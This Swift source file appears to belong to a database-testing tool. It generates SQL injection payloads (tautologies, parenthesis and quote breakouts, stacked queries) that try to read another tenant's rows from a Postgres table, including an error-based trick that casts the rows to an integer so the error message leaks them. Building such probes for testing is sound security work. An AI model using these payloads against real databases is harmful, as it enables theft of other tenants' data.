internal import Postgres
internal import SQLSyntax
internal import Synthesis

/// Texts that break out of the place where a function pastes an argument into SQL.
///
/// A place that takes no rows, an ORDER BY or a LIMIT, still takes an expression: one that casts
/// the other tenant's rows to a number fails, and the error's message holds them.
struct InjectionPayloads {
  /// The table that is asked for, and the column that says whose its rows are.
  var relation: Relation
  var tenantColumn: String
  /// The tenant whose rows are asked for.
  var tenant: String
  /// A column that any table in the function's statement may have.
  private var column: String { relation.columns.first?.name ?? tenantColumn }

  /// The payloads, those that fit most places first.
  var texts: [String] {
    let rows =
      "SELECT * FROM \(SQLNames.of(relation)) WHERE \(SQLNames.of(tenantColumn))::text = "
      + "\(SQLNames.literal(tenant)) LIMIT 9"
    let telling = "CAST((SELECT string_agg(r::text, ' ') FROM (\(rows)) r) AS int)"
    return [
      // As a condition, and as anything else that has a value.
      "true OR true", telling, "\(telling) IS NOT NULL",
      // In parentheses.
      "true) OR (true", "NULL) OR true --", "NULL), (\(telling)",
      // As a statement of its own.
      "SELECT \(telling)", "NULL; SELECT \(telling); --",
      // In quotes.
      "' || \(telling) || '", "'; SELECT \(telling); --",
      "\(column)\", (\(telling)) --",
    ]
  }
}
